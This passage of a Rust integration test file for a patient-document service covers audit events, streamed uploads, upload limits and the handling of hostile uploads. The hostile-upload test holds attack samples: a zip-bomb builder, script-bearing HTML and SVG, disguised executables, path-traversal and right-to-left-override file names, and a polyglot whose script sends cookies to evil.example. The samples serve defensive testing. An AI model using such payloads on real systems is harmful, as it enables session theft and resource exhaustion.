        &format!("INSERT INTO blob_intents (blob_key, created_at) VALUES ('{abandoned}', 0) RETURNING blob_key"),
    )
    .await?;
    blobs.put(&abandoned, vec![1; 100]).await?;
    // A blob nobody knows of.
    let stray = app::documents::blobs::Blobs::new_key();
    blobs.put(&stray, vec![2; 100]).await?;
    // Something else's object in the same bucket or folder (a backup, an export): not Tiaki's
    // to list or sweep (review #17).
    blobs.put("other/backup-2026.tar", vec![4; 100]).await?;
    assert_eq!(blobs.list().await?.len(), 4, "only Tiaki's own objects are listed");
    // A folder store's staging file of an upload cut off by a crash.
    let staging = (blob_backend() == "folder").then(|| {
        let key = app::documents::blobs::Blobs::new_key();
        let path = blob_dir(&w.t.data_dir).join(format!("{key}#1"));
        std::fs::create_dir_all(path.parent().unwrap_or(&path)).ok();
        std::fs::write(&path, [3u8; 50]).ok();
        path
    });
    let report = w.t.app.console().sweep_blobs(-3600).await?;
    assert_eq!((report.intents, report.strays), (1, 1 + u64::from(staging.is_some())));
    if let Some(path) = staging {
        assert!(!path.exists(), "the staging file is gone");
    }
    assert_eq!(blobs.list().await?.len(), 2, "the letter and the upload remain");
    assert_eq!(blobs.get("other/backup-2026.tar").await?, vec![4; 100], "a foreign object survives the sweep");
    assert_eq!(p1.get_bytes(&format!("/api/v1/documents/{id}/content"), None).await?.0, StatusCode::OK);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_document_is_not_served_when_its_read_cannot_be_audited() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 38, 1]).await?;
    let url = format!("/api/v1/documents/{}/content", w.letter1);
    assert_eq!(p1.get_bytes(&url, None).await?.0, StatusCode::OK);
    if w.t.url.starts_with("sqlite:") {
        sql_strings(&w.t, "CREATE TRIGGER audit_offline BEFORE INSERT ON audit_events BEGIN SELECT RAISE(ABORT, 'audit offline'); END").await?;
    } else {
        let mut c = sqlx::PgConnection::connect(&w.t.url).await?;
        sqlx::raw_sql(
            "CREATE FUNCTION audit_offline() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'audit offline'; END $$ LANGUAGE plpgsql; \
             CREATE TRIGGER audit_offline BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION audit_offline()",
        )
        .execute(&mut c)
        .await?;
    }
    for path in [url.clone(), format!("/documents/{}/download", w.letter1)] {
        let (status, headers, body) = p1.get_bytes(&path, None).await?;
        assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
        assert!(headers.get(header::CONTENT_DISPOSITION).is_none());
        assert!(!contains(&body, b"letter one") && !contains(&body, b"%PDF"), "no document bytes: {path}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_document_route_writes_the_right_event() -> Result<()> {
    let w = World::new().await?;
    let p1 = w.patient1.to_string();
    let mut owner = w.signed_in("p1@example.nz", [127, 0, 39, 1]).await?;
    let mut other = w.signed_in("p2@example.nz", [127, 0, 39, 2]).await?;
    let (_, upload) = api_upload(&mut owner, &p1, "mine.pdf", &pdf("mine", 500)).await?;
    owner.get(&format!("/patients/{p1}/documents")).await?;
    other.get(&format!("/patients/{}/documents", w.patient2)).await?;
    // (method, route, FHIR subtype code, also an unwrap event)
    let expected = [
        ("POST", "/patients/{patient_id}/documents", "create", true),
        ("POST", "/api/v1/patients/{patient_id}/documents", "create", true),
        ("GET", "/documents/{document_id}/download", "read", true),
        ("GET", "/api/v1/documents/{document_id}/content", "read", true),
        // A new title is sealed under the document's key: the patient key is unwrapped for it.
        ("POST", "/documents/{document_id}/rename", "update", true),
        ("POST", "/documents/{document_id}/hide", "update", false),
        ("POST", "/documents/{document_id}/delete", "delete", false),
    ];
    let covered = |m: &str, p: &str| expected.iter().any(|(em, ep, _, _)| *em == m && *ep == p);
    for r in ROUTES {
        let document_route = r.path.contains("{document_id}") || (r.method == "POST" && r.path.ends_with("/documents"));
        let elsewhere = ["/documents/{document_id}/withdraw", "/api/v1/documents"].contains(&r.path);
        assert!(
            !document_route || elsewhere || covered(r.method, r.path),
            "{} {} has no expectation here",
            r.method,
            r.path
        );
    }
    for (method, route, code, unwrap) in expected {
        let target = if route.contains("{document_id}") { upload.clone() } else { p1.clone() };
        let url = route.replace("{patient_id}", &target).replace("{document_id}", &target);
        let act = |b: &mut Browser, url: String| {
            let mut b = b.clone();
            async move {
                match (method, url.as_str()) {
                    ("GET", _) => b.get(&url).await,
                    ("POST", u) if u.starts_with("/api/") => {
                        b.send(Method::POST, &format!("{u}?filename=x.pdf"), Some("application/pdf"), pdf("x", 300))
                            .await
                    }
                    ("POST", u) if u.ends_with("/documents") => b.upload(u, "x.pdf", &pdf("x", 300)).await,
                    (_, u) => b.post(u, &[("title", "Renamed")]).await,
                }
            }
        };
        // Denied first (the owner's delete would end the document).
        let n = events(&w).await?.len();
        assert_eq!(act(&mut other, url.clone()).await?.status, StatusCode::NOT_FOUND, "{method} {url}");
        let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
        assert_eq!(new.len(), 1, "{method} {route}: {new:#?}");
        assert_eq!(new[0]["outcomeDesc"], "denied", "{route}");
        assert_eq!(patient_of(&new[0]).as_deref(), Some(p1.as_str()), "{route}");
        // Not found.
        let ghost = DocumentId::random().to_string();
        let ghost_url = route
            .replace("{patient_id}", &app::domain::PatientId::random().to_string())
            .replace("{document_id}", &ghost);
        let n = events(&w).await?.len();
        assert_eq!(act(&mut other, ghost_url).await?.status, StatusCode::NOT_FOUND, "{route}");
        let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
        assert_eq!(new.len(), 1, "{route}");
        assert_eq!(new[0]["outcomeDesc"], "not_found", "{route}");
        assert_eq!(patient_of(&new[0]), None);
        // Allowed: the owner.
        let n = events(&w).await?.len();
        let status = act(&mut owner, url.clone()).await?.status;
        assert!(status.is_success() || status.is_redirection(), "{method} {url}: {status}");
        let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
        let e = new.iter().find(|e| object_type(e) == "document").with_context(|| format!("{route}: {new:#?}"))?;
        assert_eq!(e["subtype"][0]["code"], code, "{route}");
        assert_eq!(e["outcomeDesc"], "allowed");
        assert_eq!(patient_of(e).as_deref(), Some(p1.as_str()), "{route}");
        assert_eq!(new.iter().any(|e| object_type(e) == "patient_key"), unwrap, "{route}: key unwraps are events");
    }
    // Withdrawal by the practice that pushed; denied to the other practice.
    let letter = w.letter1.to_string();
    let mut staff_b = w.signed_in("admin-b@example.nz", [127, 0, 39, 3]).await?;
    staff_b.get(&format!("/practices/{}", w.practice_b)).await?;
    let n = events(&w).await?.len();
    assert_eq!(staff_b.post(&format!("/documents/{letter}/withdraw"), &[]).await?.status, StatusCode::NOT_FOUND);
    let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
    assert_eq!((new.len(), new[0]["outcomeDesc"].as_str()), (1, Some("denied")));
    let mut gp = w.signed_in("gp-a@example.nz", [127, 0, 39, 4]).await?;
    gp.get(&format!("/patients/{p1}/documents")).await?;
    let n = events(&w).await?.len();
    assert_eq!(gp.post(&format!("/documents/{letter}/withdraw"), &[]).await?.status, StatusCode::SEE_OTHER);
    let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
    assert!(new.iter().any(|e| e["subtype"][0]["code"] == "delete"
        && e["outcomeDesc"] == "allowed"
        && patient_of(e).as_deref() == Some(p1.as_str())));
    // Pushes: allowed in scope; refused (and logged, naming the patient) outside it.
    let (_, client_b) = w.t.app.console().create_client("B PMS", "", "Practice B", Some("FBB222-B")).await?;
    let n = events(&w).await?.len();
    assert_eq!(
        push(&w.t, &client_b, &push_meta("ZZZ0016", "b-1"), &pdf("b", 100)).await?.status,
        StatusCode::NOT_FOUND
    );
    let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
    assert_eq!(new.len(), 1);
    assert_eq!(new[0]["outcomeDesc"], "denied");
    assert_eq!(patient_of(&new[0]).as_deref(), Some(p1.as_str()));
    assert!(new[0]["agent"][0]["role"][0]["text"].as_str().unwrap_or_default().starts_with("client:"));
    let n = events(&w).await?.len();
    assert_eq!(
        push(&w.t, &w.client_a, &push_meta("ZZZ0016", "a-2"), &pdf("a", 100)).await?.status,
        StatusCode::CREATED
    );
    let new: Vec<Value> = events(&w).await?.into_iter().skip(n).collect();
    assert!(new.iter().any(|e| e["subtype"][0]["code"] == "create" && e["outcomeDesc"] == "allowed"));
    Ok(())
}

fn vm_hwm_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| s.lines().find(|l| l.starts_with("VmHWM:")).map(str::to_owned))
        .and_then(|l| l.split_whitespace().nth(1).and_then(|n| n.parse().ok()))
        .unwrap_or(0)
}

/// The byte at `i` of the generated gibibyte: a PDF header, then a pattern that changes with
/// position (so a misplaced chunk is caught).
fn gib_chunk(index: u64, len: usize) -> Vec<u8> {
    let mut v: Vec<u8> = (0..len).map(|j| ((index * 7 + j as u64 * 13) % 251) as u8).collect();
    if index == 0 {
        v[..9].copy_from_slice(b"%PDF-1.7\n");
    }
    v
}

/// 1 GiB up and down through the router, streamed: the process's peak memory grows by far less
/// than the document. Run on its own (`--run-ignored only`), once per blob store.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "1 GiB: run as its own CI step"]
async fn a_gibibyte_round_trips_streamed_in_bounded_memory() -> Result<()> {
    use axum::body::Body;
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    const PART: usize = 1024 * 1024;
    const PARTS: u64 = 1024;
    let w = World::with_limits(2048 * 1024 * 1024, 4096 * 1024 * 1024).await?;
    let p1 = w.signed_in("p1@example.nz", [127, 0, 40, 1]).await?;
    let cookies: Vec<String> = p1.cookies.iter().map(|(k, v)| format!("{k}={v}")).collect();
    let before = vm_hwm_kib();
    let stream =
        futures_util::stream::iter((0..PARTS).map(|i| Ok::<_, std::io::Error>(bytes::Bytes::from(gib_chunk(i, PART)))));
    let mut req = axum::http::Request::builder()
        .method(Method::POST)
        .uri(format!("/api/v1/patients/{}/documents?filename=big.pdf", w.patient1))
        .header(header::CONTENT_TYPE, "application/pdf")
        .header(header::COOKIE, cookies.join("; "))
        .body(Body::from_stream(stream))?;
    req.extensions_mut().insert(axum::extract::ConnectInfo(std::net::SocketAddr::from(([127, 0, 40, 1], 1))));
    let started = std::time::Instant::now();
    let res = w.t.router.clone().oneshot(req).await?;
    let status = res.status();
    let body = res.into_body().collect().await?.to_bytes();
    assert_eq!(status, StatusCode::CREATED, "{}", String::from_utf8_lossy(&body));
    let id = serde_json::from_slice::<Value>(&body)?["id"].as_str().unwrap_or_default().to_owned();
    let up = started.elapsed();
    let mut req = axum::http::Request::builder()
        .uri(format!("/api/v1/documents/{id}/content"))
        .header(header::COOKIE, cookies.join("; "))
        .body(Body::empty())?;
    req.extensions_mut().insert(axum::extract::ConnectInfo(std::net::SocketAddr::from(([127, 0, 40, 1], 1))));
    let started = std::time::Instant::now();
    let res = w.t.router.clone().oneshot(req).await?;
    assert_eq!(res.status(), StatusCode::OK);
    let mut body = res.into_body();
    let (mut pos, mut expected, mut part) = (0usize, gib_chunk(0, PART), 0u64);
    while let Some(frame) = body.frame().await {
        let frame = frame?;
        let Some(data) = frame.data_ref() else { continue };
        let mut data = &data[..];
        while !data.is_empty() {
            let n = data.len().min(PART - pos);
            assert!(data[..n] == expected[pos..pos + n], "byte {} differs", part * PART as u64 + pos as u64);
            pos += n;
            data = &data[n..];
            if pos == PART {
                part += 1;
                pos = 0;
                expected = gib_chunk(part, PART);
            }
        }
    }
    assert_eq!(part, PARTS, "every byte came back");
    let down = started.elapsed();
    let grew_mib = vm_hwm_kib().saturating_sub(before) / 1024;
    eprintln!(
        "{}/{}: 1 GiB up in {:.1}s, down in {:.1}s; peak memory grew {grew_mib} MiB",
        backend(),
        blob_backend(),
        up.as_secs_f64(),
        down.as_secs_f64()
    );
    assert!(grew_mib < 200, "memory must not grow with the document: grew {grew_mib} MiB for 1 GiB");
    Ok(())
}

/// A Word-looking zip whose directory claims 4 GiB of content from a few bytes.
fn zip_bomb() -> Vec<u8> {
    let mut out = b"PK\x03\x04".to_vec();
    out.extend(std::iter::repeat_n(0u8, 200));
    let cd_offset = u32::try_from(out.len()).unwrap();
    let mut cd = Vec::new();
    for name in ["[Content_Types].xml", "word/document.xml", "word/bomb1.xml", "word/bomb2.xml"] {
        cd.extend_from_slice(b"PK\x01\x02");
        cd.extend_from_slice(&[0; 6]);
        cd.extend_from_slice(&8u16.to_le_bytes());
        cd.extend_from_slice(&[0; 8]);
        cd.extend_from_slice(&100u32.to_le_bytes());
        cd.extend_from_slice(&0x3FFF_FFFFu32.to_le_bytes());
        cd.extend_from_slice(&u16::try_from(name.len()).unwrap().to_le_bytes());
        cd.extend_from_slice(&[0; 16]);
        cd.extend_from_slice(name.as_bytes());
    }
    let cd_size = u32::try_from(cd.len()).unwrap();
    out.extend_from_slice(&cd);
    out.extend_from_slice(b"PK\x05\x06");
    out.extend_from_slice(&[0; 4]);
    out.extend_from_slice(&4u16.to_le_bytes());
    out.extend_from_slice(&4u16.to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_uploads_are_refused_or_served_inertly() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 42, 1]).await?;
    let patient = w.patient1.to_string();
    let upload = |name: &str| format!("/api/v1/patients/{patient}/documents?filename={name}");
    let send = |b: &mut Browser, url: String, bytes: Vec<u8>| {
        let mut b = b.clone();
        async move { b.send(Method::POST, &url, Some("application/octet-stream"), bytes).await }
    };
    // Refused, with the reason, and nothing kept.
    for (what, name, bytes, reason) in [
        ("HTML", "letter.pdf", b"<!doctype html><html><body onload=alert(1)>hi</body></html>".to_vec(), "Web pages"),
        ("SVG with script", "chart.png", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec(), "SVG"),
        ("a zip bomb named .docx", "notes.docx", zip_bomb(), "could not be checked safely"),
        ("an executable named .pdf", "scan.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00PE\x00\x00".to_vec(), "not accepted"),
        ("an ELF executable named .txt", "notes.txt", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00".to_vec(), "not accepted"),
    ] {
        let r = send(&mut p1, upload(name), bytes).await?;
        assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{what}: {}", r.body);
        assert!(r.body.contains(reason), "{what}: {}", r.body);
    }
    assert!(sql_strings(&w.t, "SELECT title FROM documents WHERE category = 'patient_upload'").await?.is_empty());
    // A PDF that is also an HTML page is a PDF: stored, and served only as an inert attachment.
    let polyglot =
        b"%PDF-1.4\n<html><script>document.location='https://evil.example/'+document.cookie</script></html>\n%%EOF\n"
            .to_vec();
    let r = send(&mut p1, upload("polyglot.html"), polyglot.clone()).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let id = serde_json::from_str::<Value>(&r.body)?["id"].as_str().unwrap_or_default().to_owned();
    let (status, headers, body) = p1.get_bytes(&format!("/documents/{id}/download"), None).await?;
    assert_eq!(status, StatusCode::OK);
    assert!(body == polyglot);
    assert_eq!(headers[header::CONTENT_TYPE], "application/pdf", "never text/html");
    let disposition = headers[header::CONTENT_DISPOSITION].to_str()?;
    assert!(disposition.starts_with("attachment;") && disposition.contains("polyglot.pdf"), "{disposition}");
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(headers[header::CONTENT_SECURITY_POLICY].to_str()?.starts_with("sandbox"));
    // Hostile file names are cleaned: no path, no NUL, no right-to-left override.
    for (raw, want) in [
        ("..%2F..%2F..%2Fetc%2Fpasswd.pdf", "passwd.pdf"),
        ("report%00.exe.pdf", "report.exe.pdf"),
        ("invoice%E2%80%AEfdp.exe", "invoicefdp.pdf"),
        ("%2E%2E", "document.pdf"),
    ] {
        let r = send(&mut p1, upload(raw), pdf("named", 200)).await?;
        assert_eq!(r.status, StatusCode::CREATED, "{raw}: {}", r.body);
        let v: Value = serde_json::from_str(&r.body)?;
        assert_eq!(v["filename"], want, "{raw}");
        let (_, headers, _) =
            p1.get_bytes(&format!("/api/v1/documents/{}/content", v["id"].as_str().unwrap_or_default()), None).await?;
        let d = headers[header::CONTENT_DISPOSITION].to_str()?;
        assert!(!d.contains('/'), "{raw}: {d}");
        assert!(
            !d.contains("..") && !d.contains('\0') && !d.contains('\u{202E}') && !d.contains("%E2%80%AE"),
            "{raw}: {d}"
        );
    }
    Ok(())
}

/// The statements the store runs, as sqlx reports them (its `sqlx::query` events), from every
/// task of this test's process (nextest runs each test in a process of its own).
#[derive(Clone, Default)]
struct Statements(std::sync::Arc<std::sync::Mutex<Vec<String>>>);

impl Statements {
    fn install() -> Result<Self> {
        use tracing_subscriber::layer::SubscriberExt;
        let seen = Self::default();
        let subscriber = tracing_subscriber::registry()
            .with(tracing_subscriber::filter::Targets::new().with_target("sqlx::query", tracing::Level::TRACE))
            .with(seen.clone());
        tracing::subscriber::set_global_default(subscriber)?;
        Ok(seen)
    }
    fn take(&self) -> Vec<String> {
        std::mem::take(&mut *self.0.lock().unwrap_or_else(std::sync::PoisonError::into_inner))
    }
}

impl<S: tracing::Subscriber> tracing_subscriber::Layer<S> for Statements {
    fn on_event(&self, event: &tracing::Event<'_>, _: tracing_subscriber::layer::Context<'_, S>) {
        /// The statement's summary, then its full text when sqlx gives it.
        struct Sql(String);
        impl tracing::field::Visit for Sql {
            fn record_debug(&mut self, field: &tracing::field::Field, value: &dyn std::fmt::Debug) {
                if field.name() == "summary" || field.name() == "db.statement" {
                    let text = format!("{value:?}");
                    self.0.push_str(text.trim_matches('"').trim());
                    self.0.push(' ');
                }
            }
            fn record_str(&mut self, field: &tracing::field::Field, value: &str) {
                if field.name() == "summary" || field.name() == "db.statement" {
                    self.0.push_str(value.trim());
                    self.0.push(' ');
                }
            }
        }
        let mut sql = Sql(String::new());
        event.record(&mut sql);
        self.0.lock().unwrap_or_else(std::sync::PoisonError::into_inner).push(sql.0);
    }
}

/// The download path, straightened (DESIGN: authorise → act → audit in one unit): a patient's
/// download costs at most three reads — the session with everything authentication needs, the
/// policy's owner lookup, and the document with its patient key behind the grant — and one
/// write, the access log's append of the read and key-unwrap events.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_download_costs_three_reads_and_one_write() -> Result<()> {
    let seen = Statements::install()?;
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 31, 1]).await?;
    let path = format!("/documents/{}/download", w.letter1);
    // A first download opens whatever pool connections it needs.
    assert_eq!(p1.download(&path, None).await?.status, StatusCode::OK);
    seen.take();
    let d = p1.download(&path, None).await?;
    assert_eq!(d.status, StatusCode::OK);
    assert!(!d.bytes.is_empty() && d.stream_error.is_none());
    let statements = seen.take();
    let log = |s: &&String| {
        s.contains("audit_") || s.starts_with("BEGIN") || s.starts_with("COMMIT") || s.starts_with("LOCK")
    };
    let (writes, reads): (Vec<&String>, Vec<&String>) = statements.iter().partition(log);
    // A connection the pool opens sets itself up (PRAGMA, SET); that is not a read of this request.
    let setup = |s: &&&String| s.trim().is_empty() || s.starts_with("PRAGMA") || s.starts_with("SET ");
    let reads: Vec<&&String> = reads.iter().filter(|s| !setup(s)).collect();
    assert!(reads.len() <= 3, "{} reads for one download: {reads:#?}", reads.len());
    assert!(reads.iter().all(|s| s.trim_start().to_uppercase().starts_with("SELECT")), "only reads: {reads:#?}");
    let appends = writes.iter().filter(|s| s.contains("INSERT INTO audit_events")).count();
    assert_eq!(appends, 1, "one append of the download's events: {writes:#?}");
    assert!(
        writes.iter().all(|s| !s.starts_with("UPDATE") && !s.starts_with("DELETE")),
        "nothing but the log's append is written: {writes:#?}"
    );
    Ok(())
}

/// Background work runs from the job queue every node shares: each period's sweep and prunes
/// are scheduled by whichever node gets there first and run once, however many nodes run the
/// queue; the sweep really removes an abandoned upload's blob.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn background_work_runs_once_per_period_from_the_shared_job_queue() -> Result<()> {
    let w = World::new().await?;
    let blobs = w.t.app.console().blobs()?;
    let abandoned = app::documents::blobs::Blobs::new_key();
    sql_strings(
        &w.t,
        &format!("INSERT INTO blob_intents (blob_key, created_at) VALUES ('{abandoned}', 0) RETURNING blob_key"),
    )
    .await?;
    blobs.put(&abandoned, vec![1; 100]).await?;
    let first = w.t.app.console().run_due_jobs("node-a").await?;
    let kinds = app::jobs::JobKind::ALL.len();
    assert_eq!((first.scheduled, first.finished, first.failed), (kinds, kinds, 0), "{first:?}");
    assert!(blobs.get(&abandoned).await.is_err(), "the sweep job removed the abandoned upload's blob");
    // Another node in the same hour finds nothing to schedule and nothing to run.
    let b = w.t.another_node().await?;
    assert_eq!(b.console().run_due_jobs("node-b").await?, app::jobs::JobsRun::default());
    // The next hour, the work is scheduled and run once more.
    w.t.clock.advance(3600);
    let next = w.t.app.console().run_due_jobs("node-a").await?;
    assert_eq!((next.scheduled, next.finished, next.failed), (kinds, kinds, 0), "{next:?}");
    assert_eq!(b.console().run_due_jobs("node-b").await?, app::jobs::JobsRun::default());
    Ok(())
}

/// Reviews #10 and #12: uploads are bounded in number, not only in bytes — an empty file is
/// refused, a patient's own documents have a cap (413 past it), and one account has at most three
/// uploads arriving at once (429 for a fourth), so slow uploads cannot pile up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_bounded_in_number_and_concurrency() -> Result<()> {
    use futures_util::StreamExt;
    let w = World::on(TestApp::builder().document_cap(3).build().await?).await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 41, 1]).await?;
    let me = w.patient1.to_string();
    let (status, _) = api_upload(&mut p1, &me, "empty.pdf", b"").await?;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "an empty file is refused");
    for n in 0..3 {
        let (status, _) = api_upload(&mut p1, &me, &format!("scan-{n}.pdf"), &pdf("scan", 500)).await?;
        assert_eq!(status, StatusCode::CREATED);
    }
    let (status, _) = api_upload(&mut p1, &me, "one-more.pdf", &pdf("scan", 500)).await?;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "past the cap");
    let listed: Vec<Value> = serde_json::from_str(&p1.get(&format!("/api/v1/patients/{me}/documents")).await?.body)?;
    assert_eq!(listed.len(), 4, "the letter and three uploads; nothing of the refused ones");
    // Practices' letters still arrive for a patient at the cap (it counts their own uploads).
    let r = push(&w.t, &w.client_a, &push_meta("ZZZ0016", "letter-2"), &pdf("letter two", 3000)).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);

    // Concurrency: four uploads that trickle in at once from one account; the fourth is turned
    // away while three are arriving.
    let mut p2 = w.signed_in("p2@example.nz", [127, 0, 41, 2]).await?;
    let them = w.patient2.to_string();
    let (gate, open) = tokio::sync::watch::channel(false);
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..4 {
        let (mut b, them, mut open) = (p2.clone(), them.clone(), open.clone());
        tasks.spawn(async move {
            let head = pdf("slow", 2000);
            let body = futures_util::stream::once(async move { Ok::<_, std::io::Error>(bytes::Bytes::from(head)) })
                .chain(futures_util::stream::once(async move {
                    let _ = open.wait_for(|o| *o).await;
                    Ok(bytes::Bytes::new())
                }));
            let path = format!("/api/v1/patients/{them}/documents?filename=slow-{n}.pdf");
            b.send_body(Method::POST, &path, "application/pdf", axum::body::Body::from_stream(body))
                .await
                .map(|r| r.status)
        });
    }
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    gate.send(true)?;
    let mut statuses = Vec::new();
    while let Some(s) = tasks.join_next().await {
        statuses.push(s??);
    }
    statuses.sort();
    assert_eq!(
        statuses,
        [StatusCode::CREATED, StatusCode::CREATED, StatusCode::CREATED, StatusCode::TOO_MANY_REQUESTS],
        "three at once from one account"
    );
    // The slots are given back: the next upload is judged on its own (here, past the cap of 3).
    assert_eq!(api_upload(&mut p2, &them, "after.pdf", &pdf("after", 500)).await?.0, StatusCode::PAYLOAD_TOO_LARGE);
    Ok(())
}

/// Documents stored before their details were sealed are sealed at start: live ones under their
/// keys (and still shown as they were), deleted ones by dropping the details nothing can open.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn older_documents_details_are_sealed_at_start() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 42, 1]).await?;
    let me = w.patient1.to_string();
    let (_, kept) = api_upload(&mut p1, &me, "kept.pdf", &pdf("kept", 500)).await?;
    let (_, gone) = api_upload(&mut p1, &me, "gone.pdf", &pdf("gone", 500)).await?;
    assert_eq!(p1.post(&format!("/documents/{gone}/delete"), &[]).await?.status, StatusCode::SEE_OTHER);
    // As rows written by the version before sealing would be.
    let by_id = |id: &str| {
        let hex = id.replace('-', "");
        if w.t.url.starts_with("sqlite:") {
            format!("lower(hex(id)) = '{hex}'")
        } else {
            format!("replace(id::text, '-', '') = '{hex}'")
        }
    };
    for (id, title) in [(&kept, "Legacy title"), (&gone, "Deleted legacy title")] {
        sql_strings(
            &w.t,
            &format!(
                "UPDATE documents SET title = '{title}', filename = 'legacy.pdf' WHERE {} RETURNING title",
                by_id(id)
            ),
        )
        .await?;
    }
    let sealed = w.t.app.console().seal_document_details(|_| {}).await?;
    assert_eq!(sealed, 2);
    let titles = sql_strings(&w.t, "SELECT title FROM documents").await?;
    assert!(titles.iter().all(|t| t.starts_with("sealed:v1:")), "{titles:?}");
    let list: Vec<Value> = serde_json::from_str(&p1.get(&format!("/api/v1/patients/{me}/documents")).await?.body)?;
    assert!(
        list.iter().any(|d| d["id"] == kept.as_str() && d["title"] == "Legacy title" && d["filename"] == "legacy.pdf")
    );
    assert_eq!(w.t.app.console().seal_document_details(|_| {}).await?, 0, "once");
    Ok(())
}
